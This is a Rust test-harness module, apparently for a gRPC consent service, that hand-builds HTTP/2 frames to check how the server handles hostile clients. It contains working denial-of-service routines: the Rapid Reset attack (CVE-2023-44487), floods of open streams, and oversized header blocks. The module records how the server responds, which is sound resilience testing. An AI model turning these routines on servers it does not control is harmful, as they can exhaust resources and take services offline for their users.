//! A raw HTTP/2 client that does what a well-behaved one (h2, tonic) refuses to: resets streams
//! as fast as it opens them (CVE-2023-44487), opens more streams than the server allows, sends
//! header blocks larger than the server accepts. It writes frames by hand (RFC 9113) with header
//! blocks of plain HPACK literals (RFC 7541 §6.2.2: no Huffman coding, no dynamic table), and
//! reads back only what the server does about it: GOAWAY, RST_STREAM, the connection closing.

use std::net::SocketAddr;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::sync::watch;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const ACK: u8 = 0x1;
const CANCEL: u32 = 0x8;
const REFUSED_STREAM: u32 = 0x7;
/// The largest frame payload a peer must accept (SETTINGS_MAX_FRAME_SIZE's initial value).
const MAX_FRAME: usize = 16_384;

/// What the server did to one hostile connection.
#[derive(Debug, Default, Clone)]
pub struct Outcome {
    /// Frames the client managed to write before the server closed the connection.
    pub streams_sent: usize,
    /// The GOAWAY error code, if the server sent one.
    pub goaway: Option<u32>,
    /// Streams the server refused (RST_STREAM REFUSED_STREAM).
    pub refused_streams: u64,
    /// Streams the server reset for any other reason.
    pub other_resets: u64,
    /// Whether the server closed the connection.
    pub closed: bool,
}

impl Outcome {
    /// Whether the request was refused at the HTTP/2 level rather than served.
    pub fn answered_without_200(&self) -> bool {
        self.refused_streams > 0 || self.other_resets > 0 || self.goaway.is_some() || self.closed
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len();
    let mut out = Vec::with_capacity(9 + len);
    out.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HPACK integer with a 7-bit prefix (string lengths, Huffman bit clear).
fn hpack_length(value: usize, out: &mut Vec<u8>) {
    if value < 127 {
        out.push(value as u8);
        return;
    }
    out.push(127);
    let mut rest = value - 127;
    while rest >= 128 {
        out.push((rest % 128 + 128) as u8);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// A header block of literals without indexing, with new names.
fn header_block(headers: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in headers {
        block.push(0x00);
        hpack_length(name.len(), &mut block);
        block.extend_from_slice(name.as_bytes());
        hpack_length(value.len(), &mut block);
        block.extend_from_slice(value.as_bytes());
    }
    block
}

/// A gRPC `Check` request's headers for stream `stream`, split over CONTINUATION frames when
/// the block is larger than a frame.
fn check_headers(
    addr: SocketAddr,
    token: &str,
    extra: &[(&str, &str)],
    stream: u32,
    end_stream: bool,
) -> Vec<u8> {
    let authority = addr.to_string();
    let bearer = format!("Bearer {token}");
    let mut headers = vec![
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/consentgate.consent.v1.ConsentService/Check"),
        (":authority", authority.as_str()),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", bearer.as_str()),
    ];
    headers.extend_from_slice(extra);
    let block = header_block(&headers);
    let chunks: Vec<&[u8]> = block.chunks(MAX_FRAME).collect();
    let mut out = Vec::new();
    for (i, chunk) in chunks.iter().enumerate() {
        let last = i + 1 == chunks.len();
        let mut flags = if last { END_HEADERS } else { 0 };
        let kind = if i == 0 { HEADERS } else { CONTINUATION };
        if i == 0 && end_stream {
            flags |= END_STREAM;
        }
        out.extend(frame(kind, flags, stream, chunk));
    }
    out
}

/// An open connection: the writing half, and what the reader has seen so far.
struct Connection {
    writer: OwnedWriteHalf,
    seen: watch::Receiver<Outcome>,
}

/// Connects, exchanges SETTINGS (the server's acknowledged, ours empty), and reads every frame
/// after that in the background.
async fn connect(addr: SocketAddr) -> Connection {
    let stream = TcpStream::connect(addr).await.expect("connect");
    stream.set_nodelay(true).expect("nodelay");
    let (mut reader, mut writer) = stream.into_split();
    writer.write_all(PREFACE).await.expect("preface");
    writer
        .write_all(&frame(SETTINGS, 0, 0, &[]))
        .await
        .expect("settings");
    // The server's first frame is its SETTINGS; acknowledge it.
    loop {
        let (kind, flags, _, _) = read_frame(&mut reader).await.expect("server settings");
        if kind == SETTINGS && flags & ACK == 0 {
            writer
                .write_all(&frame(SETTINGS, ACK, 0, &[]))
                .await
                .expect("settings ack");
            break;
        }
    }
    let (tell, seen) = watch::channel(Outcome::default());
    tokio::spawn(async move {
        loop {
            match read_frame(&mut reader).await {
                None => {
                    tell.send_modify(|o| o.closed = true);
                    return;
                }
                Some((GOAWAY, _, _, payload)) if payload.len() >= 8 => {
                    let code = u32::from_be_bytes(payload[4..8].try_into().expect("4 bytes"));
                    tell.send_modify(|o| o.goaway = Some(code));
                }
                Some((RST_STREAM, _, _, payload)) if payload.len() >= 4 => {
                    let code = u32::from_be_bytes(payload[..4].try_into().expect("4 bytes"));
                    tell.send_modify(|o| {
                        if code == REFUSED_STREAM {
                            o.refused_streams += 1;
                        } else {
                            o.other_resets += 1;
                        }
                    });
                }
                Some(_) => {}
            }
        }
    });
    Connection { writer, seen }
}

/// One frame: kind, flags, stream, payload; `None` once the connection closed.
async fn read_frame(reader: &mut tokio::net::tcp::OwnedReadHalf) -> Option<(u8, u8, u32, Vec<u8>)> {
    let mut head = [0u8; 9];
    reader.read_exact(&mut head).await.ok()?;
    let len = (usize::from(head[0]) << 16) | (usize::from(head[1]) << 8) | usize::from(head[2]);
    let stream = u32::from_be_bytes(head[5..9].try_into().ok()?) & 0x7fff_ffff;
    let mut payload = vec![0u8; len];
    reader.read_exact(&mut payload).await.ok()?;
    Some((head[3], head[4], stream, payload))
}

impl Connection {
    /// Writes `bytes`; `false` once the server has closed the connection.
    async fn send(&mut self, bytes: &[u8]) -> bool {
        self.writer.write_all(bytes).await.is_ok()
    }

    /// Waits up to `patience` for the server to close the connection (or to have sent a
    /// GOAWAY), then closes it from this side and reports what was seen.
    async fn finish(mut self, patience: Duration, streams_sent: usize) -> Outcome {
        let _ = tokio::time::timeout(
            patience,
            self.seen.wait_for(|o| o.closed || o.goaway.is_some()),
        )
        .await;
        let _ = self.writer.shutdown().await;
        // The server's side ends once it sees ours: the streams it held are dropped with it.
        let _ =
            tokio::time::timeout(Duration::from_secs(5), self.seen.wait_for(|o| o.closed)).await;
        let mut outcome = self.seen.borrow().clone();
        outcome.streams_sent = streams_sent;
        outcome
    }
}

/// `streams` streams each opened with a request's headers and reset at once (CANCEL), written
/// in bursts as fast as the socket takes them.
pub async fn rapid_reset(addr: SocketAddr, token: &str, streams: usize) -> Outcome {
    let mut connection = connect(addr).await;
    let mut sent = 0;
    'bursts: for burst in (0..streams).collect::<Vec<_>>().chunks(100) {
        let mut bytes = Vec::new();
        for i in burst {
            let id = 2 * (*i as u32) + 1;
            bytes.extend(check_headers(addr, token, &[], id, false));
            bytes.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
        }
        if !connection.send(&bytes).await {
            break 'bursts;
        }
        sent += burst.len();
    }
    connection.finish(Duration::from_secs(2), sent).await
}

/// `streams` streams opened with a request's headers and never given a message: each would
/// hold the server's attention until the connection ends.
pub async fn open_streams(addr: SocketAddr, token: &str, streams: usize) -> Outcome {
    let mut connection = connect(addr).await;
    let mut sent = 0;
    for i in 0..streams {
        let id = 2 * (i as u32) + 1;
        if !connection
            .send(&check_headers(addr, token, &[], id, false))
            .await
        {
            break;
        }
        sent += 1;
    }
    // Give the server time to answer the streams it refuses.
    tokio::time::sleep(Duration::from_millis(500)).await;
    connection.finish(Duration::ZERO, sent).await
}

/// One request whose metadata is `bytes` long (one `x-padding` header).
pub async fn oversize_headers(addr: SocketAddr, token: &str, bytes: usize) -> Outcome {
    let mut connection = connect(addr).await;
    let padding = "p".repeat(bytes);
    let sent = connection
        .send(&check_headers(
            addr,
            token,
            &[("x-padding", padding.as_str())],
            1,
            true,
        ))
        .await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    connection.finish(Duration::ZERO, usize::from(sent)).await
}
